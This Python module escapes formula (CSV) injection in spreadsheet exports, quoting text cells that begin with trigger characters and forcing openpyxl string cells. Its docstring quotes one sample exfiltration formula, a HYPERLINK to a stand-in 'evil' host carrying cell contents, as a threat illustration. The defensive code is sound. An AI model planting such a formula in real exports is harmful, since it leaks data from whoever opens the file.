"""Files that people open in a spreadsheet: every CSV export and every workbook goes through here.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage
return) as a formula, so a statement or an organisation name such as ``=HYPERLINK("http://evil/?"&A1)`` would
act when a facilitator opens an export ("CSV injection", or formula injection). Following OWASP's guidance,
a *text* cell that begins with one of those characters (or their full-width forms, which some spreadsheets
read as the same) is written with a single quote in front: spreadsheets show the text and do not run it.

Which cells are text is decided by the column, not by the value: a column of numbers (a vote of -1, a count)
is written as the number it is, while a statement that happens to read "-1" is text and is neutralised. A
number column that is handed a value which is not a number (the words "fewer than 5") treats it as text.

Workbooks (openpyxl) write every string as a string cell (``data_type`` ``"s"``), never as a formula; a string
cell is never evaluated, so no quote is added there. Characters a workbook cannot hold (controls) are dropped.

GraphML and JSON exports are read by graph tools and programs, not spreadsheets, and carry text as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["FORMULA_TRIGGERS", "SpreadsheetWriter", "append_row", "restore_cell", "safe_cell"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP), with the full-width forms.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def safe_cell(text: str) -> str:
    """``text`` as a spreadsheet cell that is never run as a formula: a single quote before a first character
    that would start one, the text unchanged otherwise."""
    return "'" + text if text[:1] in FORMULA_TRIGGERS else text


def restore_cell(text: str) -> str:
    """The text :func:`safe_cell` was given: the guarding quote removed (reading our own exports back in)."""
    return text[1:] if text[:1] == "'" and text[1:2] in FORMULA_TRIGGERS else text


def _is_number(value: Any) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, int | float):
        return True
    if isinstance(value, str):
        try:
            float(value)
        except ValueError:
            return False
        return value.strip() == value and value.lower() not in ("nan", "inf", "-inf", "+inf", "infinity")
    return False


class SpreadsheetWriter:
    """A ``csv.writer`` whose text cells are safe to open in a spreadsheet.

    Parameters
    ----------
    out : text file
        Where the rows go.
    numbers : columns
        The positions (0-based) of the columns that hold numbers. Every other column is text.
    **csv_options
        Passed to :func:`csv.writer` (``lineterminator`` and the like).
    """

    def __init__(self, out: IO[str], *, numbers: Iterable[int] = (), **csv_options: Any) -> None:
        self._writer = csv.writer(out, **csv_options)
        self._numbers = frozenset(numbers)

    def cell(self, column: int, value: Any) -> Any:
        """The value as written in ``column``."""
        if value is None:
            return ""
        if column in self._numbers and _is_number(value):
            return value
        return safe_cell(str(value))

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([self.cell(i, value) for i, value in enumerate(row)])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def append_row(sheet: Worksheet, values: Sequence[Any]) -> None:
    """Append ``values`` to a workbook sheet, every string as a string cell (never a formula)."""
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            # openpyxl reads a string that begins with "=" as a formula; a string cell is only ever shown.
            cell.data_type = "s"
